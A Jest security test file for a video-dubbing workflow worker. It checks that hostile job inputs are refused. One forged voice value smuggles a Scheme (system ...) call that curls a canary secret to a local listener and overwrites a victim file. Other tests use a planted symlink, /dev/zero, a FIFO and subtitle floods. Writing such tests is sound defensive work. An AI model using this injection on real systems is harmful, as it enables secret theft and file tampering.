// Issue 27: every registered workflow type is an entry point anyone on the namespace can start, and every file,
// folder and number a job names is a lever on the worker. Tried as an attacker would, against the real test dev
// server and a real worker process holding a canary secret, with a listener that records any request, a victim
// file outside the output root, and the worker's own peak memory (VmHWM) and bytes written read afterwards.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { execa } from 'execa';
import { WorkflowFailedError } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import * as registered from '../../workflows/index.js';
import type { DubJobResult, PreparedJob } from '../../lib/job.js';
import { shortClip, writeSrt } from '../fixtures/media.js';
import { jobInput, tempDir, testClient } from '../support/jobs.js';
import { startWorker, queuesFor, type WorkerProcess, type Queues } from '../support/workers.js';
import { closeTestClient } from '../support/jobs.js';
import { typedCause } from '../support/failures.js';

const CANARY = `CANARY-${randomBytes(6).toString('hex')}`;


async function run(type: string, input: unknown, queues: Queues, workflowId = `ep-${type}-${randomBytes(4).toString('hex')}`) {
  const client = await testClient();
  const handle = await client.workflow.start(type, { taskQueue: queues.workflows, workflowId, args: [input] });
  return handle.result().then((r) => ({ ok: true as const, r }), (e: unknown) => ({ ok: false as const, cause: typedCause(e) }));
}

/** Peak resident memory of a process, MB (Linux VmHWM). */
async function peakRssMb(pid: number): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  return Number(/VmHWM:\s+(\d+) kB/.exec(status)![1]) / 1024;
}

async function bytesUnder(dir: string): Promise<number> {
  let total = 0;
  for (const e of await readdir(dir, { withFileTypes: true, recursive: true }).catch(() => [])) {
    if (e.isFile()) total += (await stat(path.join(e.parentPath, e.name))).size;
  }
  return total;
}

describe('every entry point is a trust boundary (real dev server and worker, canary env, recording listener)', () => {
  const queues = queuesFor(`ep${randomBytes(3).toString('hex')}`);
  let worker: WorkerProcess;
  let listener: http.Server;
  const seen: string[] = [];
  let listenUrl = '';
  let victimDir: string;
  let victim: string;

  beforeAll(async () => {
    await shortClip();
    listener = http.createServer((req, res) => { seen.push(`${req.method} ${req.url}`); res.end('ok'); });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    listenUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/`;
    // The victim lives outside the worker's output root (the test root is the system temp folder).
    victimDir = path.join(process.cwd(), 'test', '.cache', `victim-${randomBytes(4).toString('hex')}`);
    await mkdir(victimDir, { recursive: true });
    victim = path.join(victimDir, 'bashrc');
    await writeFile(victim, 'original\n');
    worker = await startWorker('all', queues, { DUB_CANARY_SECRET: CANARY });
  }, 180_000);
  afterAll(async () => {
    await worker?.stop();
    await closeTestClient();
    await new Promise<void>((r) => listener.close(() => r()));
  });

  /** A PreparedJob as an attacker writes it: festival Scheme that runs a shell, a folder outside the root. */
  const forgedPrep = async (): Promise<PreparedJob> => {
    const clip = await shortClip();
    const shell = `cmu_us_slt_arctic_hts) (system "curl -s ${listenUrl}$DUB_CANARY_SECRET; echo pwned > ${victim}") (voice_cmu_us_slt_arctic_hts`;
    return {
      job: { root: victimDir, name: 'forged' },
      options: { ...jobInput(clip.video, queues, await tempDir('ep')), tts: { engine: 'festival', voice: shell } } as never,
      media: { path: clip.video, durationSec: 6, video: { codec: 'h264', width: 160, height: 120, fps: 25 }, audio: { codec: 'aac', sampleRate: 48000, channels: 2 } },
      ttsEngine: 'festival',
      voices: { engine: 'festival', speakers: [{ speaker: 'S1', voice: shell }], speakersFrom: 'single' },
    };
  };

  const nothingHappened = async () => {
    expect(seen).toEqual([]);
    expect(await readFile(victim, 'utf8')).toBe('original\n');
    expect(await readdir(victimDir)).toEqual(['bashrc']);
  };

  it('enumerates the registered workflow types and starts each with a hostile input: each refuses (InvalidConfig), no code runs, nothing is written outside the root', async () => {
    const types = Object.keys(registered).sort();
    expect(types).toEqual(['dubJob', 'streamChunk', 'streamDub']);
    const prep = await forgedPrep();
    const chunk = { index: 0, start: 0, end: 3, contextStart: 0, contextEnd: 3, keyframeAligned: false };
    const hostile: Record<string, unknown[]> = {
      // The job start route: the same options as a forged prep carries.
      dubJob: [prep.options, { ...prep.options, queues: { ...queues, gpu: 'someone-elses-gpu-queue' } }],
      // resume on a fresh start (and on a run with a retry policy, whose second attempt is "continued").
      streamDub: [{ ...prep.options, tts: {}, stream: { enabled: true }, resume: { prep, chunks: [chunk], entries: [{ index: 0, status: 'pending' }], startedAtMs: 0 } }],
      // A chunk from outside: once under a random id, once under an id that looks like a parent's chunk.
      streamChunk: [{ prep, chunk }],
    };
    for (const type of types) {
      for (const input of hostile[type]) {
        const out = await run(type, input, queues);
        expect(out.ok).toBe(false);
        if (out.ok) continue;
        expect(out.cause.type).toBe('InvalidConfig');
        expect(out.cause.nonRetryable).toBe(true);
      }
    }
    const lookalike = await run('streamChunk', { prep, chunk }, queues, `stream-x-en-0000-chunk-000`);
    expect(lookalike.ok ? '' : lookalike.cause.message).toMatch(/started only by its streamDub parent/);
    const resumed = await run('streamDub', hostile.streamDub[0], queues);
    expect(resumed.ok ? '' : resumed.cause.message).toMatch(/resume is the state a streaming run carries/);
    const queue = await run('dubJob', hostile.dubJob[1], queues);
    expect(queue.ok ? '' : queue.cause.message).toMatch(/tts\.voice|queues\.gpu: one of the worker's task queues/);
    await new Promise((r) => setTimeout(r, 1000)); // a shell started by a leak would have called by now
    await nothingHappened();
    expect(worker.output()).not.toContain(CANARY);
  }, 300_000);

  it('a planted link inside a job folder is never written through: the rerun is refused naming it, the victim is untouched', async () => {
    const clip = await shortClip();
    const dir = await tempDir('ep-link');
    const subs = await writeSrt(path.join(dir, 'lines.srt'), clip.script.map((l) => ({ ...l, text: 'Hello there.' })));
    const input = jobInput(clip.video, queues, path.join(dir, 'out'), { subs, translate: false, tts: { engine: 'espeak-ng' }, mix: { separation: 'off' } });
    const first = await run('dubJob', input, queues);
    expect(first.ok).toBe(true);
    const folder = (first as { r: DubJobResult }).r.outputDir;
    const log = path.join(folder, 'tmp', 'commands.jsonl');
    await execa('rm', ['-f', log]);
    await symlink(victim, log);
    const again = await run('dubJob', { ...input, fit: { guardMs: 81 } }, queues);
    expect(again.ok).toBe(false);
    if (!again.ok) expect(again.cause.message).toMatch(/holds a link \(tmp\/commands\.jsonl\); anime-dub never writes through links/);
    await nothingHappened();
  }, 300_000);

  it('files a job names must be regular files under a cap: /dev/zero and a FIFO as the glossary are refused at once, the worker stays small', async () => {
    const clip = await shortClip();
    const dir = await tempDir('ep-glossary');
    const fifo = path.join(dir, 'glossary.fifo');
    await execa('mkfifo', [fifo]);
    const subs = await writeSrt(path.join(dir, 'lines.srt'), clip.script.map((l) => ({ ...l, text: 'Hello there.' })));
    for (const glossary of ['/dev/zero', fifo]) {
      const started = Date.now();
      const out = await run('dubJob', jobInput(clip.video, queues, path.join(dir, 'out'), { subs, mt: { engine: 'apertium', glossary } }), queues);
      expect(out.ok).toBe(false);
      if (!out.ok) {
        expect(out.cause.type).toBe('InvalidConfig');
        expect(out.cause.message).toMatch(/--glossary .* is not a regular file/);
      }
      expect(Date.now() - started).toBeLessThan(60_000); // not a held slot (the activity timeout is far longer)
    }
    expect(await peakRssMb(worker.pid)).toBeLessThan(500); // /dev/zero used to cost 560 MB
  }, 240_000);

  it('speech is bounded by the time it has: a 60 KB cue in a 1.8 s slot and 100,000 tiny cues over a 6 s video are refused before anything is spoken (no folder, no bytes)', async () => {
    const clip = await shortClip();
    const dir = await tempDir('ep-speech');
    const huge = await writeSrt(path.join(dir, 'huge.srt'), [{ start: 1, end: 2.8, text: 'hello '.repeat(10_000) }]);
    const flood = path.join(dir, 'flood.srt');
    const cues: string[] = [];
    const at = (ms: number) => `00:00:0${Math.floor(ms / 1000)},${String(ms % 1000).padStart(3, '0')}`;
    for (let i = 0; i < 100_000; i++) cues.push(`${i + 1}\n${at(1000 + (i % 4000))} --> ${at(1500 + (i % 4000))}\nHi ${i}\n`);
    await writeFile(flood, cues.join('\n'));
    expect((await stat(flood)).size).toBeGreaterThan(3_000_000);
    for (const [subs, message] of [[huge, /line 1 \(at 00:00:01\.000\) holds \d{5} characters for a 1\.8 s slot; a line of that length holds at most 272/], [flood, /\d{3,} lines for a \d+\.\d s input; at most \d+ can be voiced/]] as const) {
      const out = path.join(dir, `out-${path.basename(subs)}`);
      const got = await run('dubJob', jobInput(clip.video, queues, out, { subs, translate: false, tts: { engine: 'espeak-ng' } }), queues);
      expect(got.ok).toBe(false);
      if (!got.ok) {
        expect(got.cause.type).toBe('InvalidSubtitles');
        expect(got.cause.message).toMatch(message);
      }
      expect(await bytesUnder(out)).toBe(0);
    }
    expect(await peakRssMb(worker.pid)).toBeLessThan(700);
  }, 240_000);
});

describe('worker limits a job can only lower (real worker with low limits)', () => {
  const queues = queuesFor(`eplim${randomBytes(3).toString('hex')}`);
  let worker: WorkerProcess;
  beforeAll(async () => {
    await shortClip();
    worker = await startWorker('all', queues, { DUB_MAX_INPUT_HOURS: '0.0005' });
  }, 180_000);
  afterAll(async () => {
    await worker?.stop();
    await closeTestClient();
  });

  it('a job asking for 1000 h gets the worker\'s limit (the 5 s input is refused at 0.0005 h); a job that would not fit on the disk is refused before a folder exists', async () => {
    const clip = await shortClip();
    const dir = await tempDir('ep-limit');
    const tooLong = await run('dubJob', jobInput(clip.video, queues, path.join(dir, 'a'), { limits: { maxInputHours: 1000 }, timeouts: { heartbeatSec: 600 } }), queues);
    expect(tooLong.ok).toBe(false);
    if (!tooLong.ok) expect(tooLong.cause.message).toMatch(/more than the 0\.0005 h limit/);
    expect(existsSync(path.join(dir, 'a'))).toBe(false);
  }, 120_000);
});

describe('the disk estimate (real worker whose reserve no disk can keep)', () => {
  const queues = queuesFor(`epdisk${randomBytes(3).toString('hex')}`);
  let worker: WorkerProcess;
  beforeAll(async () => {
    await shortClip();
    worker = await startWorker('all', queues, { DUB_DISK_RESERVE_GB: '900000' });
  }, 180_000);
  afterAll(async () => {
    await worker?.stop();
    await closeTestClient();
  });

  it('is refused early with the numbers (OutputNotWritable), and no job folder is made', async () => {
    const clip = await shortClip();
    const dir = await tempDir('ep-disk');
    const out = await run('dubJob', jobInput(clip.video, queues, path.join(dir, 'out')), queues);
    expect(out.ok).toBe(false);
    if (!out.ok) {
      expect(out.cause.type).toBe('OutputNotWritable');
      expect(out.cause.message).toMatch(/needs about .* GB in the output folder; its disk has .* GB free and the worker keeps .* in reserve \(DUB_DISK_RESERVE_GB\)/);
    }
    expect(await bytesUnder(path.join(dir, 'out'))).toBe(0);
  }, 120_000);
});
